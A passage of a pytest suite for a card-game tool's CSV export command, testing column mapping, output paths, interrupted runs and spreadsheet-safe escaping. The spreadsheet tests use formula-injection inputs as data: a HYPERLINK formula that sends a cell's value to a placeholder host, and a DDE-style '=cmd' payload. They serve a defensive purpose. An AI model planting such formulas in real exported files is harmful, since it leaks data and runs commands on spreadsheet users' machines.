    assert frame["tricks_won_0"].sum() > 0 and frame["dogs_life_0"].dtype == "boolean"


def test_duckdb_reads_the_types_and_the_documented_unpivot_works(
    four_player_rounds: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pytest.importorskip("duckdb")
    monkeypatch.chdir(four_player_rounds.parent)
    (_, duckdb_block) = doc_snippets()
    scope: dict[str, Any] = {}
    exec(duckdb_block, scope)
    relation = scope["tricks_by_seat"]
    assert dict(zip(relation.columns, map(str, relation.types), strict=True))["tricks_won"] == (
        "BIGINT"
    )
    got = sorted(relation.select("game, round, seat, tricks_won").fetchall())
    with open(four_player_rounds, newline="") as f:
        want = sorted(
            (int(r["game"]), int(r["round"]), f"tricks_won_{s}", int(r[f"tricks_won_{s}"]))
            for r in csv.DictReader(f)
            for s in range(MAX_PLAYERS)
            if r[f"tricks_won_{s}"]
        )
    assert got == want and want
    assert {seat for _, _, seat, _ in got} <= {f"tricks_won_{s}" for s in range(4)}
    table = scope["duckdb"].sql(
        "SELECT * FROM read_csv('rounds.csv', types = $types)", params={"types": scope["types"]}
    )
    kinds = dict(zip(table.columns, map(str, table.types), strict=True))
    assert (kinds["hand_6"], kinds["tricks_won_6"], kinds["dogs_life_6"]) == (
        "VARCHAR", "BIGINT", "BOOLEAN",
    )  # fmt: skip


# -o naming an input


@pytest.mark.parametrize("how", ["same", "link", "dotted"])
def test_output_that_is_an_input_is_a_usage_error(stacked: str, tmp_path: Path, how: str) -> None:
    source = tmp_path / "games.jsonl"
    source.write_text(Path(stacked).read_text())
    before = source.read_bytes()
    target = {
        "same": str(source),
        "link": str(tmp_path / "link.jsonl"),
        "dotted": str(tmp_path / "." / "games.jsonl"),
    }[how]
    if how == "link":
        os.symlink(source, target)
    code, out, err = invoke("export", stacked, str(source), "--table", "games", "-o", target)
    assert (code, out) == (2, "")
    assert "'-o' / '--output'" in err and repr(target) in err and repr(str(source)) in err
    assert source.read_bytes() == before


# --------------------------------------------------------------------------- spreadsheets


def test_spreadsheet_safe_cells_begin_as_no_formula() -> None:
    row = ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "Ada", "a=b", 7, -7, None, True, "")
    safe = ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "Ada", "a=b", 7, -7, "", "true"]
    assert cells(row, spreadsheet_safe=True) == [*safe, ""]
    assert cells(row) == [*row[:10], "", "true", ""]  # the default keeps the data as logged


def test_export_spreadsheet_safe(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Names a person may type, each a formula in Excel or LibreOffice; a file's too.
    code, out, _ = invoke("simulate", "--seed", "9", "--players", "4", "--start-cards", "2")
    assert code == 0
    game = json.loads(out)
    names = ['=HYPERLINK("http://x.example/?"&A1,"Ada")', "+Ben", "-Cy", "@Dev"]
    for player, name in zip(game["players"], names, strict=True):
        player["name"], player["kind"] = name, "human"
    monkeypatch.chdir(tmp_path)
    write(tmp_path / "=x.jsonl", [game])
    (safe,) = table(invoke("export", "--spreadsheet-safe", "--table", "games", "=x.jsonl")[1])
    assert by_seat(safe, "name")[:4] == ["'" + n for n in names]
    assert pick(safe, "file", "game", "seed", "rules_players") == ("'=x.jsonl", "1", "9", "4")
    (kept,) = table(invoke("export", "--table", "games", "=x.jsonl")[1])
    assert by_seat(kept, "name")[:4] == names and kept["file"] == "=x.jsonl"
    plays = table(invoke("export", "--spreadsheet-safe", "--table", "plays", "=x.jsonl")[1])
    assert {p["file"] for p in plays} == {"'=x.jsonl"}
    assert all(p["card"][0] in RANKS for p in plays)  # cards are never formulas


def test_every_table_starts_with_the_key_columns_in_order() -> None:
    from kow.runs import export

    assert tuple(export._KEYS) == ("file", "game", "seed")
    for table in export.TABLES:
        assert export.COLUMNS[table][:3] == ("file", "game", "seed"), table


def _padded(values: list[Any]) -> list[Any]:
    return [*values, *[None] * (MAX_PLAYERS - len(values))]


def test_each_rows_cells_are_its_columns_read_by_name_off_the_log(
    runs: dict[str, list[dict[str, Any]]], stacked: str
) -> None:
    # The rows are made positionally (kow.runs._rows, compiled): each cell read back by
    # its column's name is the log's fact of that name, so no column is swapped.
    games = [
        *next(iter(runs.values())),
        *(json.loads(x) for x in Path(stacked).read_text().splitlines()),
    ]
    assert len(games) > 5
    for index, game in enumerate(games, start=1):
        found = tables_rows(game, TABLES, file="f", index=index)
        named: dict[str, list[dict[str, Any]]] = {
            t: [dict(zip(COLUMNS[t], row, strict=True)) for row in found[t]] for t in TABLES
        }
        (row,) = named["games"]
        n = game["rules"]["players"]
        assert (row["file"], row["game"], row["seed"]) == ("f", index, game["seed"])
        assert {k: row[f"rules_{k}"] for k in game["rules"]} == game["rules"]
        result = game["result"]
        assert (row["winner"], row["termination"], row["rounds_played"], row["abandoned"]) == (
            result["winner"], result["termination"], result["rounds_played"], False)  # fmt: skip
        assert [row[f"name_{s}"] for s in range(MAX_PLAYERS)] == _padded(
            [p["name"] for p in game["players"]])  # fmt: skip
        assert [row[f"kind_{s}"] for s in range(MAX_PLAYERS)] == _padded(
            [p["kind"] for p in game["players"]])  # fmt: skip
        out_in = _padded([None] * n)
        first_dog = _padded([None] * n)
        assert len(named["rounds"]) == len(game["rounds"])
        plays_rows = iter(named["plays"])
        tricks_rows = iter(named["tricks"])
        for rnd, got in zip(game["rounds"], named["rounds"], strict=True):
            number = rnd["number"]
            for seat in rnd["eliminated"]:
                out_in[seat] = number
            for seat in rnd["dogs_life"]:
                first_dog[seat] = first_dog[seat] or number
            hands = [None if h is None else " ".join(h) for h in rnd["hands"]]
            want = {
                "round": number, "hand_size": rnd["hand_size"], "dealer": rnd["dealer"],
                "players_in": sum(h is not None for h in hands), "turned_up": rnd["turned_up"],
                "trump": rnd["trump"], "trump_method": rnd["trump_method"],
                "trump_chosen_by": rnd["trump_chosen_by"], "leader": rnd["leader"],
            }  # fmt: skip
            for name, values in (
                ("hand", hands),
                ("tricks_won", rnd["tricks_won"]),
                ("dogs_life", [s in rnd["dogs_life"] for s in range(n)]),
                *[(key, [s in rnd[key] for s in range(n)])
                  for key in ("eliminated", "dogs_life_granted", "revived")],
            ):  # fmt: skip
                want.update(
                    zip([f"{name}_{s}" for s in range(MAX_PLAYERS)], _padded(values), strict=True)
                )
            assert {k: got[k] for k in want} == want
            for trick in rnd["tricks"]:
                t = next(tricks_rows)
                cards = [p["card"] for p in trick["plays"] if "card" in p]
                assert (t["round"], t["trick"], t["leader"], t["winner"]) == (
                    number, trick["number"], trick["leader"], trick["winner"])  # fmt: skip
                assert (t["cards"], t["knocks"]) == (len(cards), len(trick["plays"]) - len(cards))
                assert t["led_suit"] == cards[0][1] and t["winning_card"] in cards
                for place, play in enumerate(trick["plays"], start=1):
                    p = next(plays_rows)
                    assert (p["round"], p["trick"], p["play"], p["seat"]) == (
                        number, trick["number"], place, play["seat"])  # fmt: skip
                    assert (p["card"], p["knock"]) == (play.get("card"), bool(play.get("knock")))
                    assert p["won"] == (play["seat"] == trick["winner"])
                    assert p["followed_suit"] == (
                        not p["lead"] and not p["knock"] and p["card"][1] == t["led_suit"]
                    )
                    assert p["trumped"] == (
                        not p["lead"] and not p["knock"] and p["card"][1] == rnd["trump"]
                        and rnd["trump"] != t["led_suit"])  # fmt: skip
        assert next(plays_rows, None) is None and next(tricks_rows, None) is None
        assert [row[f"eliminated_round_{s}"] for s in range(MAX_PLAYERS)] == out_in
        assert [row[f"dogs_life_round_{s}"] for s in range(MAX_PLAYERS)] == first_dog


# --------------------------------------------------------------------------- tables in one pass


@pytest.mark.parametrize(
    "chosen", [["all"], ["plays", "games"], ["tricks", "all"], ["rounds", "plays", "rounds"]]
)
def test_several_tables_in_one_pass_are_each_table_exported_alone(
    runs: dict[str, list[dict[str, Any]]], tmp_path: Path, chosen: list[str]
) -> None:
    paths = list(runs)
    folder = tmp_path / "tables"  # made: its parent exists
    options = [arg for name in chosen for arg in ("--table", name)]
    code, out, err = invoke("export", *paths, *options, "-o", str(folder))
    assert (code, out, err) == (0, "", "")
    wanted = TABLES if "all" in chosen else sorted(set(chosen), key=TABLES.index)
    assert sorted(p.name for p in folder.iterdir()) == sorted(f"{t}.csv" for t in wanted)
    for name in wanted:
        code, alone, _ = invoke("export", *paths, "--table", name)
        assert code == 0
        assert (folder / f"{name}.csv").read_text() == alone  # the same bytes
    # Into a folder that exists, with a slash: each table replaced whole, nothing else left.
    (folder / "games.csv").write_text("old\n")
    code, _, err = invoke("export", *paths, "--table", "all", "-o", f"{folder}/")
    assert (code, err) == (0, "")
    assert sorted(p.name for p in folder.iterdir()) == [f"{t}.csv" for t in sorted(TABLES)]
    assert (folder / "games.csv").read_text() == invoke("export", *paths, "--table", "games")[1]


def _count_calls(module: Any, calls: dict[str, int], monkeypatch: pytest.MonkeyPatch) -> None:
    """Count in ``calls`` the calls of ``module``'s ``verify_game`` and ``replay_game``."""

    def counted(name: str, real: Any) -> Any:
        def call(*args: Any, **kwargs: Any) -> Any:
            calls[name] += 1
            return real(*args, **kwargs)

        return call

    monkeypatch.setattr(module, "verify_game", counted("verify", module.verify_game))
    monkeypatch.setattr(module, "replay_game", counted("replay", module.replay_game))


def test_tables_rows_checks_and_replays_each_game_once(
    stacked: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    import kow.runs.export as module

    game = json.loads(Path(stacked).read_text().splitlines()[0])
    calls = {"verify": 0, "replay": 0}

    _count_calls(module, calls, monkeypatch)
    found = module.tables_rows(game, TABLES, file="f", index=1)
    assert calls == {"verify": 1, "replay": 1}
    assert list(found) == list(TABLES)
    for name in TABLES:
        assert found[name] == rows(game, name, file="f", index=1)
    plays = sum(len(t["plays"]) for r in game["rounds"] for t in r["tricks"])
    assert [len(found[name]) for name in TABLES] == [1, 3, 9, plays] and plays > 9 * 2
    with pytest.raises(ValueError, match="no table 'hands': the tables are games, rounds"):
        module.tables_rows(game, ("games", "hands"), file="f", index=1)


def test_tables_rows_given_the_text_leaves_the_oracle_to_games_the_replay_does_not_prove(
    stacked: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A log that is, byte for byte, the engine's game is proved legal by its replay
    # (kow.log.replay_exact): the oracle is not asked. Any other text goes to the oracle
    # first, which names the fault as without the text.
    import kow.runs.export as module

    game = json.loads(Path(stacked).read_text().splitlines()[0])
    line = json.dumps(game, separators=(",", ":"))  # its compact text, as the reader keeps it
    calls = {"verify": 0, "replay": 0}

    _count_calls(module, calls, monkeypatch)
    found = module.tables_rows(game, TABLES, file="f", index=1, text=line)
    assert calls == {"verify": 0, "replay": 0}
    assert found == module.tables_rows(game, TABLES, file="f", index=1)  # the oracle's way
    assert calls == {"verify": 1, "replay": 1}
    bad = copy.deepcopy(game)  # a cut of the whole deck: the engine replays it to its text
    first = bad["rounds"][0]
    first["cut"]["position"] = 52
    text = json.dumps(bad, separators=(",", ":"))
    with pytest.raises(module.IllegalGameError) as err:
        module.tables_rows(bad, TABLES, file="f", index=1, text=text)
    assert str(err.value) == "round 1: rounds[0].cut.position: 52 is out of range 1 to 51"
    assert calls == {"verify": 2, "replay": 1}


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--table", "all"], "4 tables go to a folder, one CSV file each: give -o DIR"),
        (["--table", "games", "--table", "plays", "-o", "-"],
         "2 tables go to a folder, one CSV file each: give -o DIR"),
        (["--table", "all", "-o", "FILE"],
         "'FILE' is a file: several tables go to a folder, one CSV file each"),
        (["--table", "all", "-o", "no/such"],
         "cannot make the folder 'no/such': No such file or directory"),
        (["--table", "all", "-o", ""], "give a folder path, not an empty string"),
    ],
)  # fmt: skip
def test_several_tables_need_a_folder(
    stacked: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: list[str], message: str
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("FILE").write_text("kept\n")
    code, out, err = invoke("export", stacked, *args)
    assert (code, out) == (2, "")
    assert err.endswith(f"Error: Invalid value for '-o' / '--output': {message}\n")
    assert sorted(os.listdir()) == ["FILE"] and Path("FILE").read_text() == "kept\n"


def test_tables_are_left_as_they_were_on_a_bad_game(stacked: str, tmp_path: Path) -> None:
    lines = Path(stacked).read_text().splitlines()
    bad = json.loads(lines[1])
    bad["rounds"][0]["tricks"][0]["winner"] = 3
    path = tmp_path / "bad.jsonl"
    path.write_text(lines[0] + "\n" + json.dumps(bad) + "\n")
    made = tmp_path / "new"
    code, out, err = invoke("export", str(path), "--table", "all", "-o", str(made))
    assert (code, out) == (1, "")
    assert err.endswith("; the export stops at a game that is not legal\n")
    assert not made.exists()  # the folder made for the tables is removed again
    kept = tmp_path / "kept"
    kept.mkdir()
    (kept / "plays.csv").write_text("old\n")
    code, _, _ = invoke("export", str(path), "--table", "all", "-o", str(kept))
    assert code == 1
    assert [p.name for p in kept.iterdir()] == ["plays.csv"]
    assert (kept / "plays.csv").read_text() == "old\n"


def test_a_table_of_the_folder_that_is_an_input_is_a_usage_error(
    stacked: str, tmp_path: Path
) -> None:
    games = tmp_path / "games.csv"
    games.write_text(Path(stacked).read_text())
    code, out, err = invoke("export", str(games), "--table", "all", "-o", str(tmp_path))
    assert (code, out) == (2, "")
    assert f"{str(games)!r} is the input {str(games)!r}: the table {str(games)!r} would" in err
    assert games.read_text() == Path(stacked).read_text()


# --------------------------------------------------------------------------- progress, stops


def test_no_progress_bar_without_a_terminal(stacked: str, tmp_path: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "kow", "export", stacked, "--table", "all", "-o", str(tmp_path)],
        capture_output=True, text=True, cwd=ROOT, check=False, timeout=120,
    )  # fmt: skip
    assert (done.returncode, done.stdout, done.stderr) == (0, "", "")


@pytest.fixture(scope="module")
def many(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a file of 3000 games, long enough to export that a signal lands mid-way."""
    code, out, err = invoke("simulate", "--seed", "3", "--games", "100", "--bots", "random")
    assert code == 0, err
    path = tmp_path_factory.mktemp("many") / "many.jsonl"
    games = [json.loads(line) for line in out.splitlines()]
    copies = [{**g, "seed": g["seed"] + k} for k in range(30) for g in games]  # none repeated
    path.write_text("".join(json.dumps(g) + "\n" for g in copies))
    return path


@pytest.mark.skipif(sys.platform == "win32", reason="pexpect needs a POSIX terminal")
def test_progress_bar_on_a_terminal_and_quiet_silences_it(many: Path, tmp_path: Path) -> None:
    pexpect = pytest.importorskip("pexpect")
    args = ["-m", "kow", "export", str(many), "--table", "all", "-o", str(tmp_path / "t")]
    child = pexpect.spawn(sys.executable, args, cwd=str(ROOT), encoding="utf-8", timeout=60,
                          dimensions=(24, 100))  # fmt: skip
    try:
        child.expect(r"Exporting\s+\[[#-]+\]\s+\d+%.*\d+ games")  # bytes read; games done
        child.sendintr()
        child.expect(pexpect.EOF)
        child = pexpect.spawn(sys.executable, [*args, "--quiet"], cwd=str(ROOT),
                              encoding="utf-8", timeout=60, dimensions=(24, 100))  # fmt: skip
        child.expect(pexpect.TIMEOUT, timeout=3)
        assert child.before == ""
        child.sendintr()
        child.expect(pexpect.EOF)
        assert re.fullmatch(
            r"\^CInterrupted after \d+ games: no table was written, and '.*t', made for"
            r" them, was removed\.\r\n",
            child.before,
        )
    finally:
        child.close(force=True)


def written(size: int) -> Any:
    """Return a test of a run's stdout: more than ``size`` bytes written."""
    return lambda out: os.fstat(out.fileno()).st_size > size


@pytest.mark.parametrize(("signame", "code", "said"), STOPS)
@pytest.mark.parametrize("jobs", ["1", "2"])
def test_a_stopped_export_to_stdout_keeps_whole_games(
    many: Path, tmp_path: Path, signame: str, code: int, said: str, jobs: str
) -> None:
    args = ["export", str(many), "--table", "plays", "--jobs", jobs]
    got, err, out = stopped(args, signame, written(20000))
    assert got == code, err
    found = re.fullmatch(rf"{said} after (\d+) games: their rows are written whole to stdout\.\n",
                         err)  # fmt: skip
    assert found, err
    done = int(found[1])
    assert 0 < done < 3000
    # The rows of exactly those games: the export of the first ones, by the same name.
    head = tmp_path / "many.jsonl"
    head.write_text("".join(many.read_text().splitlines(keepends=True)[:done]))
    alone = subprocess.run([sys.executable, "-m", "kow", "export", head.name, "--table", "plays"],
                           capture_output=True, cwd=tmp_path, check=True)  # fmt: skip
    assert out == alone.stdout.replace(b"many.jsonl", str(many).encode())


@pytest.mark.parametrize(("signame", "code", "said"), STOPS)
@pytest.mark.parametrize("several", [False, True])
def test_a_stopped_export_to_files_leaves_them_as_they_were(
    many: Path, tmp_path: Path, signame: str, code: int, said: str, several: bool
) -> None:
    target = tmp_path / ("tables" if several else "plays.csv")
    if several:
        target.mkdir()
        (target / "plays.csv").write_text("old\n")
    else:
        target.write_text("old\n")
    table = ["--table", "all"] if several else ["--table", "plays"]

    def begun(out: Any) -> bool:  # a temporary file is being written
        folder = target if several else tmp_path
        return any(p.name.startswith(".kow-") and p.stat().st_size > 20000
                   for p in folder.iterdir())  # fmt: skip

    got, err, out = stopped(["export", str(many), *table, "-o", str(target)], signame, begun)
    assert (got, out) == (code, b""), err
    left = (f"the tables in {str(target)!r} were left as they were" if several
            else f"{str(target)!r} was left as it was")  # fmt: skip
    assert re.fullmatch(rf"{said} after \d+ games: {re.escape(left)} \(not written\)\.\n", err)
    if several:
        assert [p.name for p in target.iterdir()] == ["plays.csv"]
        assert (target / "plays.csv").read_text() == "old\n"
    else:
        assert [p.name for p in tmp_path.iterdir()] == ["plays.csv"]
        assert target.read_text() == "old\n"


def test_a_file_name_where_a_folder_is_needed_is_refused(stacked: str, tmp_path: Path) -> None:
    # Issue 33, 9: export --table all -o out.csv silently made a folder named out.csv.
    out = tmp_path / "out.csv"
    code, stdout, err = invoke("export", stacked, "--table", "all", "-o", str(out))
    assert (code, stdout) == (2, "")
    assert f"'{out}' is the name of a file: several tables go to a folder" in err
    assert not out.exists()
    code, _, err = invoke("export", stacked, "--table", "all", "-o", f"{out}/")  # a folder
    assert (code, err) == (0, "")
    assert sorted(p.name for p in out.iterdir()) == [
        "games.csv", "plays.csv", "rounds.csv", "tricks.csv"]  # fmt: skip
    code, _, err = invoke("export", stacked, "--table", "games", "-o", str(tmp_path / "g.csv"))
    assert (code, err) == (0, "")  # one table: a file, as asked


def test_export_games_checks_and_replays_each_game_once(tmp_path: Path) -> None:
    from kow.log import InputEnd, read_logs
    from kow.runs.export import csv_text, tables_rows
    from kow.runs.export_loop import ExportedGame, ExportError, export_games

    code, text, err = invoke("simulate", "--seed", "5", "--games", "2", "--bots", "random")
    assert code == 0, err
    path = tmp_path / "g.jsonl"
    path.write_text(text + '{"format": "kow-log"}\n', encoding="utf-8")
    found = export_games(read_logs([str(path)]), ("games", "plays"))
    for index, line in enumerate(text.splitlines(), 1):
        item = next(found)
        assert isinstance(item, ExportedGame) and item.record.index == index
        game = json.loads(line)
        found_rows = tables_rows(game, ("games", "plays"), file=str(path), index=index)
        assert item.text == {table: csv_text(rows) for table, rows in found_rows.items()}
        assert item.text["plays"].count("\n") == len(found_rows["plays"]) > 10
    with pytest.raises(ExportError) as caught:
        next(found)
    assert str(caught.value).startswith(f"{path}: game 3: ")
    assert str(caught.value).endswith("; the export stops at a game that is not legal")
    good = tmp_path / "good.jsonl"
    good.write_text(text, encoding="utf-8")
    items = list(export_games(read_logs([str(good)]), ("games",)))
    assert [type(item) for item in items] == [ExportedGame, ExportedGame, InputEnd]


def _jobs_input(tmp_path: Path) -> list[str]:
    """Return two inputs: 13 games with a faulty 10th, then 3 good games."""
    code, text, err = invoke("simulate", "--seed", "8", "--games", "15", "--bots", "random")
    assert code == 0, err
    lines = text.splitlines()
    bad = json.loads(lines[9])
    bad["rounds"][0]["tricks"][0]["winner"] = (bad["rounds"][0]["tricks"][0]["winner"] + 1) % 4
    first, second = tmp_path / "a.jsonl", tmp_path / "b.jsonl"
    first.write_text("\n".join([*lines[:9], json.dumps(bad), *lines[10:13]]) + "\n")
    second.write_text("\n".join(lines[12:]) + "\n")
    return [str(first), str(second)]


@dataclasses.dataclass(frozen=True)
class MapOnly:
    """An executor with ``map`` alone (as Ray tasks): the games go in windows of blocks."""

    jobs: int

    @property
    def workers(self) -> int:
        return self.jobs

    def map(self, func: Any, items: Any) -> Any:
        from kow.runs._pool import ordered_map

        return ordered_map(func, items, self.jobs)


@pytest.mark.parametrize("executor", ["jobs 2", "processes 3", "map only"])
def test_export_games_gives_the_same_text_and_error_whatever_the_jobs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, executor: str
) -> None:
    import kow.runs.blocks
    import kow.runs.export_loop as module
    from kow.log import read_logs
    from kow.runs.executors import Processes

    monkeypatch.setattr(kow.runs.blocks, "BLOCK", 2)  # windows of several blocks, on a few games
    inputs = _jobs_input(tmp_path)

    def exported(**how: Any) -> tuple[list[tuple[int, dict[str, str]]], str]:
        out = []
        with pytest.raises(module.ExportError) as caught:
            for item in module.export_games(read_logs(inputs), TABLES, **how):
                assert isinstance(item, module.ExportedGame)
                out.append((item.record.index, item.text))
        return out, str(caught.value)

    alone = exported()
    executors: dict[str, dict[str, Any]] = {
        "jobs 2": {"jobs": 2},
        "processes 3": {"executor": Processes(3)},
        "map only": {"executor": MapOnly(2)},
    }
    how = executors[executor]
    assert exported(**how) == alone
    assert [index for index, _ in alone[0]] == list(range(1, 10))
    assert alone[1].startswith(f"{inputs[0]}: game 10 (seed ")
    good = list(module.export_games(read_logs(inputs[1:]), ("plays",), jobs=2))
    assert [getattr(item, "text", None) for item in good] == [
        getattr(item, "text", None)
        for item in module.export_games(read_logs(inputs[1:]), ("plays",))
    ]
    assert len(good) == 4  # 3 games and the input's end


def test_export_jobs_gives_the_same_bytes_and_errors(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    inputs = _jobs_input(tmp_path)
    runs: dict[str, dict[str, bytes]] = {}
    faulty: dict[str, tuple[int, str, str]] = {}
    for jobs in ("1", "2"):
        out = tmp_path / f"out{jobs}"
        code, text, err = invoke("export", "--jobs", jobs, "--table", "all", "-o", str(out),
                                 inputs[1], inputs[1])  # fmt: skip
        assert (code, text, err) == (0, "", "")
        runs[jobs] = {p.name: p.read_bytes() for p in out.iterdir()}
        faulty[jobs] = invoke("export", "--jobs", jobs, "--table", "plays", *inputs)
    assert runs["1"] == runs["2"] and len(runs["1"]) == 4
    assert faulty["1"] == faulty["2"]
    status, shown, said = faulty["2"]
    assert status == 1 and "game 10 (seed " in said and shown.count("\n") > 9 * 20
    code, _, err = invoke("export", "--jobs", "2", "--cluster", "local", "--table", "plays",
                          inputs[1])  # fmt: skip
    assert code == 2 and "give --jobs or --cluster, not both" in err


@pytest.mark.parametrize("safe", [False, True])
def test_csv_text_writes_what_the_csv_module_writes(safe: bool) -> None:
    # Plain rows go through the compiled line writer, the others through csv: one text.
    values: list[Any] = [
        "Th", "g.jsonl", "", "a b", "a,b", 'say "hi"', "x\ny", "\r", "\tx", "=1+1", "-Ada",
        "+", "@x", "é ♥", "\u2028", "\x7f", 0, 7, -3, 10**20, None, True, False,
    ]  # fmt: skip
    rows: list[tuple[Any, ...]] = [
        (a, b, c) for a in values for b in values[:6] for c in (1, None, "=x")
    ]
    rows += [(value,) for value in values]  # a row of one cell: CSV quotes a lone empty one
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerows(cells(row, spreadsheet_safe=safe) for row in rows)
    assert csv_text(rows, spreadsheet_safe=safe) == out.getvalue()
    assert csv_text([("Th", 2, None, False)]) == "Th,2,,false\n"


def test_csv_text_writes_each_cell_as_the_csv_module_writes_the_value() -> None:
    # The cells are made by compiled code (ints as their text, small ones from a table);
    # the csv module writes them: the same text as its own writing of the values.
    row = ("f", 0, 63, 64, -1, 10**20, None, True, False, "a,b", '"q"', "=1", "")
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(
        ["" if v is None else {True: "true", False: "false"}.get(v, v) if isinstance(v, bool)
         else v for v in row]
    )  # fmt: skip
    assert (
        csv_text([row])
        == out.getvalue()
        == 'f,0,63,64,-1,100000000000000000000,,true,false,"a,b","""q""",=1,\n'
    )
    assert csv_text([row], spreadsheet_safe=True).endswith(",'=1,\n")
    assert cells(row)[1:6] == [0, 63, 64, -1, 10**20]  # cells keep ints as ints


@pytest.mark.parametrize("safe", [False, True])
def test_tables_text_is_the_csv_modules_text_of_the_rows(
    runs: dict[str, list[dict[str, Any]]], safe: bool
) -> None:
    # The compiled join of the engine's cells (rows_text) against the csv module's writing
    # of every row (csv_text), on every variant's games, an abandoned game and a null
    # seed, under labels that CSV quotes or a spreadsheet would run.
    from kow.runs.export import tables_text

    games: list[Any] = [game for found in runs.values() for game in found]
    games.append(abandoned_game())
    games.append({**games[0], "seed": None})  # deals from outside kow: not proved, verified
    labels = ["g.jsonl", 'a,"b"\nc.jsonl', "=cmd|'/c calc'!A1", "-x", "é ♥\r"]
    for number, game in enumerate(games, 1):
        label = labels[number % len(labels)]
        text = json.dumps(game, separators=(",", ":"), ensure_ascii=False)
        made = tables_text(game, TABLES, file=label, index=number, text=text, spreadsheet_safe=safe)
        found = tables_rows(game, TABLES, file=label, index=number)
        assert list(made) == list(TABLES)
        expected = {table: csv_text(rows, spreadsheet_safe=safe) for table, rows in found.items()}
        assert made == expected
    null_seed = tables_text(games[-1], ("plays",), file='a,"b"\nc.jsonl', index=9)["plays"]
    assert null_seed.startswith('"a,""b""\nc.jsonl",9,,1,1,1,')  # quoted, the seed empty
    key = "'=cmd|'/c calc'!A1" if safe else "=cmd|'/c calc'!A1"
    assert tables_text(games[0], ("tricks",), file="=cmd|'/c calc'!A1", index=1,
                       spreadsheet_safe=safe)["tricks"].startswith(f"{key},1,1,1,1,")  # fmt: skip


def test_tables_rows_given_the_replay_does_not_replay_again(
    stacked: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # replayed: what replay_exact(game, text) returned, run by the caller (the reader's
    # proof): a state is taken as the game's replay, None sends the game to the oracle,
    # and replay_exact is not run again either way.
    import kow.runs.export as module
    from kow.log import replay_exact

    game = json.loads(Path(stacked).read_text().splitlines()[0])
    line = json.dumps(game, separators=(",", ":"))
    state = replay_exact(game, line)
    assert state is not None
    expected = module.tables_rows(game, TABLES, file="f", index=1, text=line)
    calls = {"verify": 0, "replay": 0, "exact": 0}
    _count_calls(module, calls, monkeypatch)

    def exact(*args: Any) -> Any:
        calls["exact"] += 1
        return replay_exact(*args)

    monkeypatch.setattr(module, "replay_exact", exact)
    found = module.tables_rows(game, TABLES, file="f", index=1, text=line, replayed=state)
    assert found == expected and calls == {"verify": 0, "replay": 0, "exact": 0}
    found = module.tables_rows(game, TABLES, file="f", index=1, text=line, replayed=None)
    assert found == expected and calls == {"verify": 1, "replay": 1, "exact": 0}
    assert module.tables_rows(game, TABLES, file="f", index=1, text=line) == expected
    assert calls == {"verify": 1, "replay": 1, "exact": 1}
    bad = copy.deepcopy(game)
    bad["rounds"][0]["cut"]["position"] = 52
    text = json.dumps(bad, separators=(",", ":"))
    assert replay_exact(bad, text) is None
    with pytest.raises(module.IllegalGameError) as err:
        module.tables_text(bad, TABLES, file="f", index=1, text=text, replayed=None)
    assert str(err.value) == "round 1: rounds[0].cut.position: 52 is out of range 1 to 51"
    assert calls == {"verify": 2, "replay": 1, "exact": 1}


def test_export_with_jobs_1_replays_each_game_once_in_the_reader_unmeasured(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # kow export with jobs 1 reads with prove=replay_exact: a proved game is neither
    # measured by the reader nor replayed again; a game the replay does not prove (here a
    # log of another version, and one spaced out) goes the old way; the text is the same.
    import kow.log._reader as reader
    import kow.runs.export as export
    from kow.engine import State
    from kow.log import GameRecord, read_logs, replay_exact, replay_line
    from kow.runs.export_loop import ExportedGame, export_games, export_reads

    assert export_reads() == (replay_exact, replay_line)
    assert export_reads(jobs=2) == (None, None) == export_reads(executor=MapOnly(1))
    code, text, err = invoke("simulate", "--seed", "9", "--games", "3", "--bots", "random")
    assert code == 0, err
    lines = text.splitlines()
    old = json.loads(lines[1])
    old["kow_version"] = "0.0.1"
    spaced = json.dumps(json.loads(lines[2]), indent=1)
    path = tmp_path / "g.jsonl"
    path.write_text("\n".join([lines[0], json.dumps(old, separators=(",", ":")), spaced]) + "\n")
    calls = {"measure": 0, "exact": 0}

    def counted(name: str, module: Any) -> None:
        real = getattr(module, name)

        def call(*args: Any) -> Any:
            calls["exact" if name == "replay_exact" else name] += 1
            return real(*args)

        monkeypatch.setattr(module, name, call)

    counted("measure", reader)
    counted("replay_exact", export)
    plain = list(export_games(read_logs([str(path)]), TABLES))
    assert calls == {"measure": 3, "exact": 2}  # the spaced game has no text to replay
    calls.update(measure=0, exact=0)
    records = read_logs([str(path)], prove=replay_exact)
    proved = list(export_games(records, TABLES, proved=True))
    assert calls == {"measure": 2, "exact": 0}
    assert [getattr(item, "text", None) for item in proved] == [
        getattr(item, "text", None) for item in plain
    ]
    games = [item for item in proved if isinstance(item, ExportedGame)]
    assert [isinstance(item.record.proof, State) for item in games] == [True, False, False]
    assert all(isinstance(item.record, GameRecord) for item in games)
    code, shown, err = invoke("export", "--table", "plays", str(path))
    assert (code, err) == (0, "")
    assert calls == {"measure": 4, "exact": 0}
    assert shown == csv_text([COLUMNS["plays"]]) + "".join(g.text["plays"] for g in games)


def test_the_engines_text_cells_are_written_by_csv_as_they_are() -> None:
    # rows_text joins the engine's text cells without the csv module: each must be one
    # that CSV writes as it is (no comma, quote or line break) and no spreadsheet reads as
    # a formula. The text cells: cards, suits, hands of cards, the trump's method.
    from typing import get_args

    from kow.cards import NAMES, SUITS
    from kow.events import TrumpMethod
    from kow.runs.export import FORMULA_STARTS

    texts = [*NAMES, *SUITS, " ".join(NAMES), *get_args(TrumpMethod)]
    assert len(texts) == 52 + 4 + 1 + 5
    for text in texts:
        out = io.StringIO()
        csv.writer(out, lineterminator="\n").writerow(["x", text])
